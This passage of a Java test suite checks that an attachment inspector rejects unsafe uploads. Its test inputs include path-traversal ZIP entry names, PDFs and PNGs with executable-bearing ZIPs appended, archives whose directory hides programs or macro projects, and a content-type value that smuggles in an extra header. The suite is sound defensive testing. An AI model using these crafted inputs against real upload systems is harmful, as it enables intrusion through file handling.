            assertThat(emailFile("сканы.zip", TestFiles.zip(Map.of("Документы/" + longest, TestFiles.pdf()))).verdict())
                    .isEqualTo(AttachmentVerdict.accepted());
            assertThat(emailFile("сканы.zip", TestFiles.zip(Map.of("a".repeat(252) + ".pdf", TestFiles.pdf()))).verdict())
                    .isEqualTo(rejected(RejectionReason.UNSAFE_ARCHIVE_PATH));
            assertThat(emailFile("сканы.zip", TestFiles.zip(Map.of("a".repeat(60_000) + ".pdf", TestFiles.pdf()))).verdict())
                    .isEqualTo(rejected(RejectionReason.UNSAFE_ARCHIVE_PATH));
        }

        @ParameterizedTest(name = "{0}")
        @ValueSource(strings = {"../evil.pdf", "docs/../../evil.pdf", "..\\evil.pdf",
            "/etc/evil.pdf", "\\\\server\\share\\evil.pdf", "C:/Windows/evil.pdf", "c:evil.pdf", "a\u0000.pdf"})
        void zipEntryThatLeavesTheFolderIsRejected(String entryName) throws IOException {
            ReceivedFile zip = emailFile("сканы.zip", TestFiles.zip(Map.of("скан.pdf", TestFiles.pdf(), entryName, TestFiles.pdf())));
            assertThat(zip.verdict()).isEqualTo(rejected(RejectionReason.UNSAFE_ARCHIVE_PATH));
            assertThat(storedFiles()).isZero();
        }

        @Test
        void docxPartLeavingThePackageOrNamedWithABackslashIsRejected() {
            byte[] climbing = TestFiles.docxWith(Map.of("word/../../evil.xml", "<x/>".getBytes(StandardCharsets.UTF_8)));
            byte[] backslashed = TestFiles.docxWith(Map.of("word\\media\\image1.png", TestFiles.png()));
            assertThat(formFile("a.docx", MediaTypes.DOCX, climbing).verdict()).isEqualTo(rejected(RejectionReason.UNSAFE_ARCHIVE_PATH));
            assertThat(formFile("b.docx", MediaTypes.DOCX, backslashed).verdict()).isEqualTo(rejected(RejectionReason.UNSAFE_ARCHIVE_PATH));
        }

        @Test
        void backslashAsAFolderSeparatorInAnEmailZipIsNotATrick() {
            ReceivedFile zip = emailFile("сканы.zip", TestFiles.zip(Map.of("папка\\скан.pdf", TestFiles.pdf())));
            assertThat(zip.verdict()).isEqualTo(AttachmentVerdict.accepted());
        }

        @Test
        void pdfWithAZipHoldingAProgramAppendedIsRejected() throws IOException {
            byte[] payload = TestFiles.zip(Map.of("setup.exe", TestFiles.pe()));
            ReceivedFile file = formFile("справка.pdf", MediaTypes.PDF, TestFiles.concat(TestFiles.pdf(), payload));
            assertThat(file.inspection().detectedType()).isEqualTo(MediaTypes.PDF);
            assertThat(file.verdict()).isEqualTo(rejected(RejectionReason.POLYGLOT_FILE));
            assertThat(storedFiles()).isZero();
        }

        @Test
        void pdfWithAnyZipAppendedIsRejectedEvenWithAnotherEofInsideTheZip() {
            var stored = new ByteArrayOutputStream();
            try (var zip = new ZipOutputStream(stored)) {
                var entry = new ZipEntry("note.txt");
                byte[] text = "%%EOF\n".getBytes(StandardCharsets.US_ASCII);
                entry.setMethod(ZipEntry.STORED);
                entry.setSize(text.length);
                var crc = new CRC32();
                crc.update(text);
                entry.setCrc(crc.getValue());
                zip.putNextEntry(entry);
                zip.write(text);
                zip.closeEntry();
            } catch (IOException e) {
                throw new UncheckedIOException(e);
            }
            assertThat(formFile("справка.pdf", MediaTypes.PDF, TestFiles.concat(TestFiles.pdf(), stored.toByteArray())).verdict())
                    .isEqualTo(rejected(RejectionReason.POLYGLOT_FILE));
        }

        @Test
        void pdfWithAZipLocalHeaderAfterItsEndButNoDirectoryIsRejected() {
            byte[] zip = TestFiles.zip(Map.of("a.exe", TestFiles.pe()));
            byte[] truncated = java.util.Arrays.copyOf(zip, zip.length / 2);
            assertThat(formFile("справка.pdf", MediaTypes.PDF, TestFiles.concat(TestFiles.pdf(), truncated)).verdict())
                    .isEqualTo(rejected(RejectionReason.POLYGLOT_FILE));
        }

        @Test
        void pngWithAZipAppendedIsRejected() {
            byte[] zip = TestFiles.zip(Map.of("a.exe", TestFiles.pe()));
            assertThat(formFile("фото.png", MediaTypes.PNG, TestFiles.concat(TestFiles.png(), zip)).verdict())
                    .isEqualTo(rejected(RejectionReason.POLYGLOT_FILE));
        }

        @Test
        void polyglotInsideAZipOrADocumentIsRejectedAsItWouldBeUnpacked() {
            byte[] payload = TestFiles.zip(Map.of("setup.exe", TestFiles.pe()));
            byte[] pdfPolyglot = TestFiles.concat(TestFiles.pdf(), payload);
            byte[] pngPolyglot = TestFiles.concat(TestFiles.png(), payload);
            byte[] pdfThenLocalHeader = TestFiles.concat(TestFiles.pdf(), java.util.Arrays.copyOf(payload, 200));

            assertThat(emailFile("сканы.zip", TestFiles.zip(Map.of("справка.pdf", pdfPolyglot))).verdict())
                    .isEqualTo(rejected(RejectionReason.POLYGLOT_FILE));
            assertThat(emailFile("сканы.zip", TestFiles.zip(Map.of("фото.png", pngPolyglot))).verdict())
                    .isEqualTo(rejected(RejectionReason.POLYGLOT_FILE));
            assertThat(emailFile("сканы.zip", TestFiles.zip(Map.of("справка.pdf", pdfThenLocalHeader))).verdict())
                    .isEqualTo(rejected(RejectionReason.POLYGLOT_FILE));
            assertThat(emailFile("сканы.zip", TestFiles.zip(Map.of("папка.zip",
                    TestFiles.zip(Map.of("справка.pdf", pdfPolyglot))))).verdict())
                    .isEqualTo(rejected(RejectionReason.POLYGLOT_FILE));
            assertThat(formFile("договор.docx", MediaTypes.DOCX,
                    TestFiles.docxWith(Map.of("word/media/image1.png", pngPolyglot))).verdict())
                    .isEqualTo(rejected(RejectionReason.POLYGLOT_FILE));
        }

        @Test
        void scansInsideAZipWithZipBytesInsideTheirBodyAreAccepted() {
            byte[] update = ("1 0 obj<</Type/Catalog/Pages 2 0 R/Note(PK\u0003\u0004 PK\u0005\u0006 inside a string)>>endobj\n"
                    + "trailer<</Root 1 0 R>>\n%%EOF\n").getBytes(StandardCharsets.ISO_8859_1);
            Map<String, byte[]> entries = new LinkedHashMap<>();
            entries.put("справка.pdf", TestFiles.concat(TestFiles.pdf(), update));
            entries.put("фото.jpg", TestFiles.jpeg());
            entries.put("скан.png", TestFiles.png());
            byte[] scanned = new byte[300 * 1024];
            new java.util.Random(7).nextBytes(scanned);
            entries.put("большой.pdf", TestFiles.concat(TestFiles.pdf(), scanned));
            assertThat(emailFile("сканы.zip", TestFiles.zip(entries)).verdict()).isEqualTo(AttachmentVerdict.accepted());
            assertThat(formFile("договор.docx", MediaTypes.DOCX, TestFiles.docxWith(Map.of("word/media/image1.png",
                    TestFiles.png(), "word/media/image2.jpeg", TestFiles.jpeg()))).verdict())
                    .isEqualTo(AttachmentVerdict.accepted());
        }

        @Test
        void pdfWithAnIncrementalUpdateAndZipBytesInsideItsBodyIsAccepted() {
            byte[] update = ("1 0 obj<</Type/Catalog/Pages 2 0 R/Note(PK\u0003\u0004 inside a string)>>endobj\n"
                    + "trailer<</Root 1 0 R>>\n%%EOF\n").getBytes(StandardCharsets.ISO_8859_1);
            assertThat(formFile("справка.pdf", MediaTypes.PDF, TestFiles.concat(TestFiles.pdf(), update)).verdict())
                    .isEqualTo(AttachmentVerdict.accepted());
        }
    }

    @Nested
    @DisplayName("archives whose central directory lists what the walk in file order does not see")
    class HiddenEntries {
        private RawZip word(String mainPartType) {
            RawZip zip = new RawZip();
            TestFiles.wordParts(mainPartType).forEach(zip::entry);
            return zip;
        }

        @Test
        void docxWhoseDirectoryListsAProgramInsideAnotherPartIsCorrupt() throws IOException {
            byte[] docx = word(TestFiles.WORD_MAIN_PART).hiding("word/media/pad.bin", "word/embeddings/payload.exe",
                    TestFiles.pe()).bytes();
            assertThat(formFile("договор.docx", MediaTypes.DOCX, docx).verdict())
                    .isEqualTo(rejected(RejectionReason.ARCHIVE_CORRUPT));
            assertThat(storedFiles()).isZero();
        }

        @Test
        void docxWhoseDirectoryListsAHiddenVbaProjectIsCorrupt() {
            byte[] docx = word(TestFiles.WORD_MAIN_PART).hiding("word/media/pad.bin", "word/vbaProject.bin",
                    TestFiles.compoundFile("VBA")).bytes();
            assertThat(formFile("договор.docx", MediaTypes.DOCX, docx).verdict())
                    .isEqualTo(rejected(RejectionReason.ARCHIVE_CORRUPT));
        }

        @Test
        void docxWhoseDirectoryListsHiddenMacroEnabledContentTypesInsteadOfTheWalkedOnesIsCorrupt() {
            Map<String, byte[]> clean = TestFiles.wordParts(TestFiles.WORD_MAIN_PART);
            RawZip zip = new RawZip().unlisted("[Content_Types].xml", clean.get("[Content_Types].xml"))
                    .entry("_rels/.rels", clean.get("_rels/.rels")).entry("word/document.xml", clean.get("word/document.xml"));
            byte[] docx = zip.hiding("word/media/pad.bin", "[Content_Types].xml",
                    TestFiles.wordParts(TestFiles.MACRO_ENABLED_MAIN_PART).get("[Content_Types].xml")).bytes();
            assertThat(formFile("договор.docx", MediaTypes.DOCX, docx).verdict())
                    .isEqualTo(rejected(RejectionReason.ARCHIVE_CORRUPT));
        }

        @Test
        void emailZipOfPdfsWhoseDirectoryListsAHiddenProgramIsCorrupt() {
            byte[] zip = new RawZip().entry("скан-1.pdf", TestFiles.pdf())
                    .hiding("скан-2.pdf", "viewer.exe", TestFiles.pe()).bytes();
            assertThat(emailFile("сканы.zip", zip).verdict()).isEqualTo(rejected(RejectionReason.ARCHIVE_CORRUPT));
        }

        @Test
        void emailZipHoldingADocxThatHidesAProgramIsCorrupt() {
            byte[] docx = word(TestFiles.WORD_MAIN_PART).hiding("word/media/pad.bin", "word/embeddings/payload.exe",
                    TestFiles.pe()).bytes();
            assertThat(emailFile("документы.zip", TestFiles.zip(Map.of("договор.docx", docx))).verdict())
                    .isEqualTo(rejected(RejectionReason.ARCHIVE_CORRUPT));
        }
    }

    @Nested
    @DisplayName("what the sender claims is cleaned before anyone stores it")
    class Claims {
        @Test
        void declaredTypeIsKeptAsACanonicalMediaTypeOnly() {
            assertThat(formFile("скан.png", "Image/PNG; name=\"скан.png\"", TestFiles.png()).declaredType())
                    .isEqualTo(MediaTypes.PNG);
            assertThat(formFile("скан.png", "image/png\u0000\r\nX-Evil: 1", TestFiles.png()).declaredType()).isEmpty();
            assertThat(formFile("скан.png", "application/x-" + "z".repeat(300), TestFiles.png()).declaredType()).isEmpty();
        }

        @Test
        void storedTypeIsTheOneDetectedFromTheBytesNotTheDeclaredOne() {
            ReceivedFile file = formFile("скан.png", "text/html", TestFiles.png());
            assertThat(file.verdict()).isEqualTo(AttachmentVerdict.accepted());
            assertThat(file.inspection().detectedType()).isEqualTo(MediaTypes.PNG);
        }

        @Test
        void nameWithNulAndTenThousandCharactersNeverComesOutRaw() {
            ReceivedFile nul = formFile("скан\u0000.png", MediaTypes.PNG, TestFiles.png());
            ReceivedFile longName = formFile("я".repeat(10_000) + ".png", MediaTypes.PNG, TestFiles.png());

            assertThat(nul.verdict()).isEqualTo(rejected(RejectionReason.SPOOFED_NAME));
            assertThat(nul.name()).isEqualTo("скан.png");
            assertThat(longName.name()).hasSize(120).endsWith("я.png");
            assertThat(longName.verdict()).isEqualTo(AttachmentVerdict.accepted());
        }
    }

    @Test
    void hundredMegabyteStreamIsCutOffOneBytePastTheLimit() throws IOException {
        CountingStream hundredMegabytes = new CountingStream(100L * MB);
        ReceivedFile file = inspector.batch(AttachmentPolicy.form()).receive("huge.pdf", "", hundredMegabytes);

        assertThat(file.verdict()).isEqualTo(rejected(RejectionReason.TOO_LARGE));
        assertThat(hundredMegabytes.bytesRead()).isEqualTo(5L * MB + 1);
        assertThat(storedFiles()).isZero();
    }
}
